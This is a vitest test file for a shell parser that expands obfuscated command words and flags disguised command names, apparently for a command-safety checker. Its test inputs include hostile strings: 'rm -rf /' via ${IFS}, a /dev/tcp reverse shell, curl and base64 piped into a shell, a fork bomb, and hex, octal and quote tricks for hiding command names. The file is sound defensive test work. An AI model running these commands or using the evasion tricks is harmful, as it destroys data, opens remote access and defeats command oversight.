import { describe, expect, it } from 'vitest';
import { expandBraceList, parseShell, walkCommands } from './shell-parse.js';

const argvs = (s: string) => [...walkCommands(parseShell(s))].map((c) => c.argv);

describe('parseShell: words as a shell expands them', () => {
  it.each([
    ['quotes glued inside a word', `c"a"t /etc/hosts`, [['cat', '/etc/hosts']], true],
    ['empty quotes', `r''m -rf x`, [['rm', '-rf', 'x']], true],
    ['backslashes', 'c\\u\\r\\l x', [['curl', 'x']], true],
    ["ANSI-C hex", "$'\\x72\\x6d' -f y", [['rm', '-f', 'y']], true],
    ["ANSI-C octal", "$'\\162\\155' -f y", [['rm', '-f', 'y']], true],
    ['${IFS} as a space', 'rm${IFS}-rf${IFS}/', [['rm', '-rf', '/']], true],
    ['variables assigned earlier', 'a=cu;b=rl;$a$b x', [[], [], ['curl', 'x']], true],
    ['IFS reassigned', 'IFS=,;X=ls,-la;$X', [[], [], ['ls', '-la']], true],
    ['brace list as command words', '{ls,-la,/tmp}', [['ls', '-la', '/tmp']], true],
    ['$(echo …) evaluated', '$(echo rm) -f z', [['rm', '-f', 'z'], ['echo', 'rm']], true],
    ['backtick printf evaluated', '`printf rm` -f z', [['rm', '-f', 'z'], ['printf', 'rm']], true],
    ['full-width letters folded', 'ｌｓ -la', [['ls', '-la']], false],
  ])('%s', (_n, input, want, obf) => {
    const got = argvs(input);
    expect(got).toEqual(want);
    const script = parseShell(input);
    const named = [...walkCommands(script)].some((c) => c.obfuscatedName) || script.ifsChanged;
    if (obf) expect(named).toBe(true);
  });

  it('keeps ordinary commands as written and unflagged', () => {
    for (const s of ['git commit -m "fix: x"', "grep -rn 'TODO' src", 'echo "$HOME"', 'ls -la ~/projects', 'tar czf a.tgz src/']) {
      const cmds = [...walkCommands(parseShell(s))];
      expect(cmds.some((c) => c.obfuscatedName), s).toBe(false);
    }
  });

  it('pipelines, lists, redirections, here-strings and here-documents', () => {
    const s = parseShell('cat <<EOF | sh\necho hi\nEOF\nbash -i >& /dev/tcp/h/1 0>&1; base64 -d <<< aGk= | sh');
    expect(s.pipelines.map((p) => p.cmds.map((c) => c.argv[0]))).toEqual([['cat', 'sh'], ['bash'], ['base64', 'sh']]);
    expect(s.pipelines[0]!.cmds[0]!.stdin).toBe('echo hi');
    expect(s.pipelines[1]!.cmds[0]!.redirects.map((r) => r.target)).toEqual(['/dev/tcp/h/1', '1']);
    expect(s.pipelines[2]!.cmds[0]!.stdin).toBe('aGk=');
  });

  it('substitutions and process substitutions are nested scripts', () => {
    const [c] = parseShell('bash <(curl -s x) "$(wget -qO- y)"').pipelines[0]!.cmds;
    expect(c!.subs.map((s) => s.pipelines[0]!.cmds[0]!.argv[0])).toEqual(['curl', 'wget']);
  });

  it('function definitions keep their body', () => {
    const [c] = parseShell(':(){ :|:& };:').pipelines[0]!.cmds;
    expect(c!.defines).toBe(':');
    expect(c!.group!.pipelines[0]!.cmds.map((x) => x.argv[0])).toEqual([':', ':']);
  });

  it('brace lists expand like the shell, ranges stay', () => {
    expect(expandBraceList('a{b,c}d')).toEqual(['abd', 'acd']);
    expect(expandBraceList('{1..3}')).toEqual(['{1..3}']);
  });

  it('is bounded on hostile input', () => {
    for (const s of ['$('.repeat(20_000), '{a,'.repeat(20_000), "'".repeat(50_000), '\\'.repeat(50_000), 'a=b;'.repeat(20_000), '<<E\n'.repeat(5000)]) {
      const t = parseShell(s);
      expect(t.pipelines.length).toBeLessThan(5000);
    }
  });
});
